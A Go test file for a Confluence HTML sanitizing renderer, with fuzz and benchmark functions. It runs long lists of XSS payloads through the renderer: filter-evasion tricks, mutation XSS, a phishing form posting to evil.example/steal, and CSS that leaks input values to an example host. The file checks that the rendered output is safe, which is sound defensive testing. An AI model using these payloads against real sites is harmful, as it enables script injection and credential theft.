package confluence_test

import (
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
	"golang.org/x/net/idna"

	"github.com/secureshare/secureshare/confluence"
)

// xssPayloads are written in the styles of the OWASP XSS Filter Evasion
// Cheat Sheet (script tags, malformed tags, entity and whitespace encoded
// javascript: URLs, event handlers, style and CSS expressions, frames,
// objects, meta refresh, base, forms, SVG/MathML mutation), plus attacks
// on our own link rewriting through Confluence's data-linked-resource-*
// attributes. Hosts are example domains.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114` +
		`&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116` +
		`&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;` +
		`&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105` +
		`&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040` +
		`&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65` +
		`&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=https://xss.example/xss.js?< B >`,
	`<SCRIPT SRC=//xss.example/.j>`,
	`<IMG SRC="` + "`" + `('XSS')"` + "`",
	`<iframe src=https://xss.example/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
	`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
	`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
	`<XSS STYLE="behavior: url(xss.htc);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,` +
		`PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063` +
		`\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027` +
		`\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw` +
		`MC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" ` +
		`AllowScriptAccess="always"></EMBED>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="&#14;javascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<a href=" javascript:alert(1)">click</a>`,
	`<a href="java&#x0A;script:alert(1)">click</a>`,
	`<a href="vbscript:msgbox(1)">click</a>`,
	`<form action="https://evil.example/steal"><input name="password" type="password">` +
		`<button>Sign in</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>` +
		`</table></mtext></math>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<object data="javascript:alert(1)"></object>`,
	`<template><script>alert(1)</script></template>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(1)">` +
		`overlay</div>`,
	`<img src="https://ok.example/x.png" srcset="javascript:alert(1) 1x">`,
	`<marquee onstart=alert(1)>`,
	`<a href="https://ok.example/" target="_blank" onclick="alert(1)">ext</a>`,
	// Attacks on the link rewriting.
	`<a href="/wiki/spaces/ENG/pages/5/x" data-linked-resource-id="javascript:alert(1)" ` +
		`data-linked-resource-type="page">bad id</a>`,
	`<img src="/wiki/download/attachments/2/x.png" data-linked-resource-id=` +
		`"att1&quot; onerror=&quot;alert(1)" data-linked-resource-container-id="2" ` +
		`data-linked-resource-type="attachment">`,
	`<a href="javascript:alert(1)" data-linked-resource-id="5" ` +
		`data-linked-resource-type="page">typed page, script href</a>`,
	`<img src="javascript:alert(1)" data-linked-resource-type="attachment" ` +
		`data-linked-resource-container-id="2">`,
	`<a href="//evil.example/wiki/spaces/ENG/pages/5">protocol relative</a>`,
	`<a href="/wiki/pages/viewpage.action?pageId=5&x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E">q</a>`,
	`<a href="https://example.atlassian.net/wiki/download/attachments/2/a.pdf" ` +
		`rel="opener" target="_top">abs attachment</a>`,
}

// confluencePage embeds a payload in realistic Confluence view HTML: in a
// paragraph, in a table cell inside an info panel, and in a task.
func confluencePage(payload string) string {
	return `<h1 id="Releasenotes-Overview">Release notes</h1>` +
		`<p>Before ` + payload + ` after.</p>` +
		`<div class="confluence-information-macro confluence-information-macro-information">` +
		`<div class="confluence-information-macro-body"><div class="table-wrap">` +
		`<table class="confluenceTable"><tbody><tr><td class="confluenceTd">` + payload +
		`</td></tr></tbody></table></div></div></div>` +
		`<ul class="inline-task-list"><li class="checked"><span>Task ` + payload +
		`</span></li></ul><p>The end.</p>`
}

func TestRenderXSSPayloads(t *testing.T) {
	require.GreaterOrEqual(t, len(xssPayloads), 50)
	r := newTestRenderer(t)
	for i, p := range xssPayloads {
		t.Run(fmt.Sprintf("payload %02d", i), func(t *testing.T) {
			out, err := r.Render(confluencePage(p), shareLinks())
			require.NoError(t, err)
			assertSafe(t, out)
			assert.Contains(t, out, `<h1 id="Releasenotes-Overview">Release notes</h1>`,
				"the page around the payload survives")
		})
	}
}

func FuzzRender(f *testing.F) {
	for _, p := range xssPayloads {
		f.Add(confluencePage(p))
	}
	inputs, _ := filepath.Glob(filepath.Join("testdata", "render", "*.html"))
	for _, in := range inputs {
		if b, err := os.ReadFile(in); err == nil {
			f.Add(string(b))
		}
	}
	r := newTestRenderer(f)
	f.Fuzz(func(t *testing.T, body string) {
		out, err := r.Render(body, shareLinks())
		if err != nil {
			return
		}
		assertSafe(t, out)
	})
}

func BenchmarkRender100KB(b *testing.B) {
	var sb strings.Builder
	chunks := []string{"table.html", "code.html", "panels.html", "tasks.html", "images.html",
		"links.html"}
	for sb.Len() < 100<<10 {
		for _, c := range chunks {
			data, err := os.ReadFile(filepath.Join("testdata", "render", c))
			if err != nil {
				b.Fatal(err)
			}
			sb.Write(data)
		}
	}
	body := sb.String()
	r := newTestRenderer(b)
	links := shareLinks()
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := r.Render(body, links); err != nil {
			b.Fatal(err)
		}
	}
}

// Adversarial review of the Renderer: every case is an attack, and a
// passing case means the attack was defended. The checks parse the output
// with golang.org/x/net/html and look at the tree, and resolve URLs the
// way a browser does (WHATWG URL rules for special schemes, IDNA mapping
// of hosts), rather than matching strings.

// reviewSiteHost is the Confluence site of these tests; reviewShareBase is
// the page an outsider reads, against which relative URLs resolve.
const (
	reviewSiteHost  = "example.atlassian.net"
	reviewShareBase = "https://share.example.org/s/tok/pages/5"
)

// reviewLinks shares pages 1, 2 and 5; every other page (99 in these
// tests) is withheld.
func reviewLinks() confluence.Links {
	return reviewLinksWith(confluence.PageWithheld)
}

// reviewLinksWith shares pages 1, 2 and 5 and answers other for the rest.
func reviewLinksWith(other confluence.PageLink) confluence.Links {
	in := map[string]bool{"1": true, "2": true, "5": true}
	return confluence.Links{
		Page: func(id string) (string, confluence.PageLink) {
			if in[id] {
				return "/s/tok/pages/" + id, confluence.PageShared
			}
			return "", other
		},
		Attachment: func(pageID, attID, name string) (string, bool) {
			return "/s/tok/files/" + pageID + "/" + url.PathEscape(name), in[pageID]
		},
	}
}

func reviewRenderer(t testing.TB, externalImages bool) *confluence.Renderer {
	t.Helper()
	r, err := confluence.NewRenderer(confluence.RenderConfig{
		SiteURLs:            []string{"https://" + reviewSiteHost + "/wiki"},
		AllowExternalImages: externalImages})
	require.NoError(t, err)
	return r
}

// reviewAllowedAttrs is every attribute the documented policy may emit,
// per element ("*" for global ones).
var reviewAllowedAttrs = map[string]map[string]bool{
	"*":   {"dir": true, "lang": true, "id": true, "title": true, "class": true},
	"a":   {"href": true, "rel": true},
	"img": {"src": true, "alt": true, "width": true, "height": true, "align": true},
	"ol":  {"type": true}, "ul": {"type": true}, "li": {"type": true, "value": true},
	"details": {"open": true},
	"table":   {"width": true, "height": true, "summary": true},
	"col":     {"align": true, "width": true, "height": true, "span": true, "valign": true},
	"colgroup": {"align": true, "width": true, "height": true, "span": true,
		"valign": true},
	"thead": {"align": true, "valign": true}, "tbody": {"align": true, "valign": true},
	"tfoot": {"align": true, "valign": true}, "tr": {"align": true, "valign": true},
	"td": {"abbr": true, "align": true, "colspan": true, "rowspan": true, "headers": true,
		"height": true, "width": true, "scope": true, "valign": true, "nowrap": true},
	"th": {"abbr": true, "align": true, "colspan": true, "rowspan": true, "headers": true,
		"height": true, "width": true, "scope": true, "valign": true, "nowrap": true},
}

// reviewAllowedElements is every element the documented policy keeps.
var reviewAllowedElements = func() map[string]bool {
	m := map[string]bool{}
	for _, e := range strings.Fields(`h1 h2 h3 h4 h5 h6 p br hr div span pre code
		blockquote b i u s em strong sub sup small mark del ins abbr cite kbd samp var tt
		strike figure figcaption section article aside summary time wbr details ol ul li
		dl dt dd table caption col colgroup thead tbody tfoot tr td th img a`) {
		m[e] = true
	}
	return m
}()

// reviewProblems parses out as a browser would (inside a div) and lists
// everything outside the documented policy: foreign elements (any
// namespace but HTML), unknown elements and attributes, and URLs whose
// scheme, after the browser strips controls and whitespace, is not http,
// https or mailto. It also re-serialises and re-parses the tree, as
// innerHTML round trips do, and reports a tree that mutates.

func reviewProblems(out string) []string {
	first, bad := reviewCheckTree(out)
	second, bad2 := reviewCheckTree(first)
	bad = append(bad, bad2...)
	if first != second {
		bad = append(bad, fmt.Sprintf("mutates when re-parsed:\n  %s\n  %s", first, second))
	}
	return bad
}

func reviewCheckTree(s string) (string, []string) {
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(s), ctx)
	if err != nil {
		return "", []string{"unparseable: " + err.Error()}
	}
	var bad []string
	var b strings.Builder
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			if n.Namespace != "" {
				bad = append(bad, "foreign element "+n.Namespace+":"+n.Data)
			} else if !reviewAllowedElements[n.Data] {
				bad = append(bad, "element "+n.Data)
			}
			for _, a := range n.Attr {
				key := a.Key
				if a.Namespace != "" {
					key = a.Namespace + ":" + a.Key
				}
				if !reviewAllowedAttrs["*"][key] && !reviewAllowedAttrs[n.Data][key] {
					bad = append(bad, fmt.Sprintf("attribute %s on %s", key, n.Data))
				}
				if key == "href" || key == "src" {
					if s := reviewScheme(a.Val); s != "" && s != "http" && s != "https" &&
						s != "mailto" {
						bad = append(bad, fmt.Sprintf("%s=%q has scheme %s", key, a.Val, s))
					}
				}
			}
		case html.CommentNode:
			bad = append(bad, "comment")
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
		_ = html.Render(&b, n)
	}
	return b.String(), bad
}

// reviewScheme returns the lowercased scheme a browser sees in ref, or "".
func reviewScheme(ref string) string {
	ref = strings.TrimFunc(ref, func(r rune) bool { return r <= ' ' })
	ref = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, ref)
	i := strings.IndexByte(ref, ':')
	if i <= 0 {
		return ""
	}
	s := ref[:i]
	for j, r := range s {
		ok := r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' ||
			j > 0 && (r >= '0' && r <= '9' || r == '+' || r == '-' || r == '.')
		if !ok {
			return ""
		}
	}
	return strings.ToLower(s)
}

// reviewBrowserHost returns the host a browser on reviewShareBase would
// contact for ref, following the WHATWG URL parser for special schemes:
// controls stripped, backslashes as slashes, any number of slashes after
// a scheme that differs from the base's, userinfo and port dropped,
// percent-decoding and UTS #46 mapping of the host, trailing dot dropped.
// It returns "" for non-network references (mailto:, fragments).
func reviewBrowserHost(ref string) string {
	base, _ := url.Parse(reviewShareBase)
	ref = strings.TrimFunc(ref, func(r rune) bool { return r <= ' ' })
	ref = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, ref)
	scheme := reviewScheme(ref)
	rest := ref
	if scheme != "" {
		rest = ref[len(scheme)+1:]
	}
	special := map[string]bool{"": true, "http": true, "https": true, "ws": true,
		"wss": true, "ftp": true}
	if !special[scheme] {
		return ""
	}
	rest = strings.ReplaceAll(rest, `\`, "/")
	switch {
	case scheme != "" && scheme != base.Scheme:
		rest = strings.TrimLeft(rest, "/") // special authority ignore slashes
	case strings.HasPrefix(rest, "//"):
		rest = strings.TrimLeft(rest, "/")
	default:
		return base.Hostname() // relative to the share
	}
	auth := rest
	if i := strings.IndexAny(auth, "/?#"); i >= 0 {
		auth = auth[:i]
	}
	if i := strings.LastIndexByte(auth, '@'); i >= 0 {
		auth = auth[i+1:]
	}
	if i := strings.LastIndexByte(auth, ':'); i >= 0 && !strings.Contains(auth[i:], "]") {
		auth = auth[:i]
	}
	if dec, err := url.PathUnescape(auth); err == nil {
		auth = dec
	}
	if a, err := idna.Lookup.ToASCII(auth); err == nil {
		auth = a
	}
	return strings.TrimSuffix(strings.ToLower(auth), ".")
}

// reviewConfluenceTargets lists href and src values in out that a browser
// would fetch from the Confluence site or Atlassian's media service.
func reviewConfluenceTargets(t *testing.T, out string) []string {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	require.NoError(t, err)
	var hits []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		for _, a := range n.Attr {
			if a.Key != "href" && a.Key != "src" {
				continue
			}
			h := reviewBrowserHost(a.Val)
			if h == reviewSiteHost || strings.HasSuffix(h, ".atlassian.net") ||
				h == "media.atlassian.com" || strings.HasSuffix(h, ".media.atlassian.com") {
				hits = append(hits, fmt.Sprintf("<%s %s=%q> goes to %s", n.Data, a.Key, a.Val, h))
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return hits
}

func TestOracleSelfCheck(t *testing.T) {
	// The oracles above must be able to fail, or the tests below prove
	// nothing.
	assert.Equal(t, reviewSiteHost, reviewBrowserHost(`https:\\example.atlassian.net\wiki`))
	assert.Equal(t, reviewSiteHost, reviewBrowserHost("https://EXAMPLE.atlassian.net.:443/x"))
	assert.Equal(t, reviewSiteHost, reviewBrowserHost("http:example.atlassian.net/x"))
	assert.Equal(t, reviewSiteHost, reviewBrowserHost("https://example\u3002atlassian.net/"))
	assert.Equal(t, "share.example.org", reviewBrowserHost("https:/example.atlassian.net/x"))
	assert.Equal(t, "share.example.org", reviewBrowserHost("/wiki/spaces/ENG/pages/99"))
	assert.Equal(t, "", reviewBrowserHost("mailto:a@example.atlassian.net"))
	assert.NotEmpty(t, reviewProblems(`<img src=x onerror=alert(1)>`))
	assert.NotEmpty(t, reviewProblems(`<a href="java&#x09;script:alert(1)">x</a>`))
	assert.NotEmpty(t, reviewProblems(`<svg><a>x</a></svg>`))
	assert.Contains(t, strings.Join(reviewProblems(`<form><math><mtext></form><form>`+
		`<mglyph><style></math><img src onerror=alert(1)>`), "\n"), "mutates",
		"a tree that changes when re-parsed is reported")
	assert.Empty(t, reviewProblems(`<p class="x">ok <a href="/s/tok/pages/1">p</a></p>`))
}

// reviewXSSPayloads are attacks beyond the package's own list: mutation
// XSS through namespace confusion and raw-text elements, comments and
// CDATA, parser quirks (slashes for spaces, unquoted and backtick values,
// NUL bytes, entities without semicolons, named entities such as &colon;
// and &Tab;), every URL-bearing attribute, and CSS.
var reviewXSSPayloads = []string{
	// Namespace confusion and mXSS.
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;` +
		`&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>`,
	`<svg><foreignobject><p><style><img src=x onerror=alert(1)></style></p></foreignobject></svg>`,
	`<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)>` +
		`</style></annotation-xml></math>`,
	`<noscript><style></noscript><img src=x onerror=alert(1)>`,
	`<noscript><a title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><style></template><img src=x onerror=alert(1)>`,
	`<template><a title="</template><img src=x onerror=alert(1)>">`,
	`<select><template><img src=x onerror=alert(1)></template></select>`,
	`<table><style><img src=x onerror=alert(1)></style></table>`,
	`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
	`<![CDATA[><img src=x onerror=alert(1)>]]>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!---><img src=x onerror=alert(1)>-->`,
	`<?xml version="1.0"?><img src=x onerror=alert(1)>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<iframe><img src=x onerror=alert(1)></iframe>`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<a href="/s/tok/pages/1" title="</a><img src=x onerror=alert(1)>">t</a>`,
	`<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">t</p>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><set attributeName="href" to="javascript:alert(1)"/><a><text>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'` +
		`&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x"></use></svg>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<math href="javascript:alert(1)">CLICKME</math>`,
	`<math><a href="javascript:alert(1)">x</a></math>`,
	// Parser quirks.
	`<img/src/onerror=alert(1)>`,
	`<img src=x onerror=alert(1)//`,
	"<img src=`x`onerror=alert(1)>",
	"<img src=x\x00onerror=alert(1)>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<a\x00href=javascript:alert(1)>x</a>",
	"<a href=\"jav\x00ascript:alert(1)\">x</a>",
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="java&NewLine;script:alert(1)">x</a>`,
	`<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<a href="\x01javascript:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	"<a href=\"\u00a0javascript:alert(1)\">x</a>",
	`<a href="javascript://%0Aalert(1)">x</a>`,
	`<a href="javascript:/*https://ok.example/*/alert(1)">x</a>`,
	`<a href="livescript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript&colon;msgbox(1)">x</a>`,
	`<a href="  &#x20;javascript:alert(1)">x</a>`,
	`<a href="https://ok.example/" onclick="alert(1)" ONMOUSEOVER="alert(1)">x</a>`,
	`<a href="https://ok.example/" o&#110;click="alert(1)">x</a>`,
	`<div/onmouseover='alert(1)'>x</div>`,
	`<div onmouseover&#61;alert(1)>x</div>`,
	`<p id="x" class="a"onmouseover=alert(1)>x</p>`,
	`<img src="x" alt="a" title=a""onerror=alert(1)>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<IMG SRC="jav&#x09;ascript:alert(1)">`,
	"<IMG SRC=\"jav\u2028ascript:alert(1)\">",
	// Other URL-bearing elements and attributes.
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<applet code="x.class"></applet>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
	`<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<link rel="prefetch" href="https://evil.example/">`,
	`<form action="https://evil.example/"><input type="submit"></form>`,
	`<input type="text" autofocus onfocus="alert(1)">`,
	`<button form="f" formaction="javascript:alert(1)">x</button>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<video poster="javascript:alert(1)"></video>`,
	`<picture><source srcset="https://evil.example/x.png"><img src="x"></picture>`,
	`<img src="https://ok.example/a.png" srcset="https://evil.example/b.png 2x">`,
	`<img src="https://ok.example/a.png" usemap="#m"><map name="m"><area href="javascript:alert(1)" ` +
		`shape="rect" coords="0,0,10,10"></map>`,
	`<blockquote cite="javascript:alert(1)">q</blockquote>`,
	`<q cite="javascript:alert(1)">q</q>`,
	`<a href="https://ok.example/" ping="https://evil.example/track">x</a>`,
	`<a href="https://ok.example/" download="x.exe">x</a>`,
	`<a href="https://ok.example/" formaction="javascript:alert(1)">x</a>`,
	`<table background="https://evil.example/t.png"><tr><td background="https://evil.example/u.png">` +
		`x</td></tr></table>`,
	`<body background="https://evil.example/b.png">`,
	`<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b.avi">`,
	`<portal src="https://evil.example/"></portal>`,
	`<fencedframe src="https://evil.example/"></fencedframe>`,
	`<dialog open>fake login</dialog>`,
	`<div popover id="p">x</div><button popovertarget="p">open</button>`,
	`<a href="https://ok.example/" target="_blank" rel="opener">x</a>`,
	`<a href="https://ok.example/" rel="opener" rel="noopener">x</a>`,
	// CSS.
	`<div style="background:url(https://evil.example/track.png)">x</div>`,
	`<div STYLE="x:\65xpression(alert(1))">x</div>`,
	`<div style="behavior:url(#default#time2)" onbegin="alert(1)">x</div>`,
	`<style>@import url(https://evil.example/x.css);</style>`,
	`<style>body{display:none}</style>`,
	`<style>input[value^=a]{background:url(https://evil.example/a)}</style>`,
	`<span style="position:fixed;inset:0;z-index:9999;background:white">fake login</span>`,
	`<font face="x" color="red" style="x">x</font>`,
	`<p class="x" style="">x</p>`,
	`<svg><style>*{fill:url(https://evil.example/x)}</style></svg>`,
	`<div class="x&quot; style=&quot;color:red">x</div>`,
	`<div id="x&quot; onmouseover=&quot;alert(1)">x</div>`,
}

func TestRenderXSS(t *testing.T) {
	r := reviewRenderer(t, true)
	for i, p := range reviewXSSPayloads {
		for _, where := range []string{"paragraph", "table cell", "code block", "link text"} {
			t.Run(fmt.Sprintf("%02d %s", i, where), func(t *testing.T) {
				body := reviewEmbed(where, p)
				out, err := r.Render(body, reviewLinks())
				if err != nil {
					return // refusing the page is a defence
				}
				assert.Empty(t, reviewProblems(out), "payload %q\nout %s", p, out)
				assert.Empty(t, reviewConfluenceTargets(t, out))
			})
		}
	}
}

// reviewEmbed puts a payload where Confluence view HTML would hold it.
func reviewEmbed(where, p string) string {
	switch where {
	case "table cell":
		return `<div class="table-wrap"><table class="confluenceTable"><tbody><tr>` +
			`<td class="confluenceTd">` + p + `</td></tr></tbody></table></div>`
	case "code block":
		return `<div class="code panel pdl"><div class="codeContent panelContent pdl">` +
			`<pre class="syntaxhighlighter-pre">` + p + `</pre></div></div>`
	case "link text":
		return `<p><a href="/wiki/spaces/ENG/pages/5/Install" data-linked-resource-id="5" ` +
			`data-linked-resource-type="page">` + p + `</a></p>`
	}
	return `<h2 id="Guide-Intro">Intro</h2><p>Before ` + p + ` after.</p>`
}

// FuzzRenderStructure mutates the review payloads and checks every output
// with the structural oracle (allow-listed elements and attributes, safe
// URL schemes, stable under re-parsing) and that nothing points at
// Confluence.
func FuzzRenderStructure(f *testing.F) {
	for _, p := range reviewXSSPayloads {
		f.Add(reviewEmbed("paragraph", p))
	}
	r := reviewRenderer(f, false)
	f.Fuzz(func(t *testing.T, body string) {
		out, err := r.Render(body, reviewLinks())
		if err != nil {
			return
		}
		if bad := reviewProblems(out); len(bad) > 0 {
			t.Fatalf("%v\nin  %q\nout %q", bad, body, out)
		}
	})
}
